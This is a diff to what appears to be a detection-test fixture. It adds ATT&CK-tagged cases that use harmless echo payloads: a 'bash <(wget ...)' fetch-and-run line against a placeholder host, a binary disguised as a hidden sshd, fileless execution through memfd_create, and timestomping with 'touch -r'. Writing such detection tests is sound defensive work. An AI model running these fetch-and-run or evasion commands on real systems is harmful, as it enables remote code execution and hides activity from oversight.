@@ -33,6 +33,7 @@ print(subprocess.run(["bash"], stdin=fetch.stdout, capture_output=True, text=Tru
         language=Language.PYTHON,
     ),
     _fetched("fetch-process-substitution", "download_substituted", "bash -c 'bash <(curl -fsS $WEB/run.sh)'"),
+    _fetched("fetch-substitution-in-script", "download_run_from_descriptor", "bash <(wget -qO- $WEB/run.sh)", "wget"),
     _fetched("fetch-command-substitution", "download_substituted", "bash -c 'eval \"$(curl -fsS $WEB/run.sh)\"'"),
     _fetched(
         "fetch-python-inline",
@@ -166,6 +167,39 @@ DISGUISED = (
         Language.BASH,
         "mkdir -p .cache; cp /bin/echo .cache/.update && .cache/.update ran while hidden",
         "ran while hidden",
+        in_cell=True,
+    ),
+    Act(
+        "disguise-service",
+        "masquerading_service",
+        "T1036.005",
+        Language.BASH,
+        "mkdir -p .x11; cp /bin/echo .x11/sshd && .x11/sshd ran as a service",
+        "ran as a service",
+        in_cell=True,
+    ),
+    Act(
+        "script-from-descriptor",
+        "script_from_descriptor",
+        "T1620",
+        Language.PYTHON,
+        """
+import os, subprocess
+script = os.memfd_create("a")
+os.write(script, b"echo ran from memory\\n")
+print(subprocess.run(["/bin/sh", f"/proc/{os.getpid()}/fd/{script}"], capture_output=True, text=True).stdout)
+""",
+        "ran from memory",
+        in_cell=True,
+    ),
+    Act(
+        "times-of-system-file",
+        "times_taken_from_system_file",
+        "T1070.006",
+        Language.BASH,
+        "cp /bin/echo helper; touch -r /bin/ls helper; [ helper -ot /proc/1 ] && echo looks old",
+        "looks old",
+        severity=LOW,
         in_cell=True,
     ),
     Act(
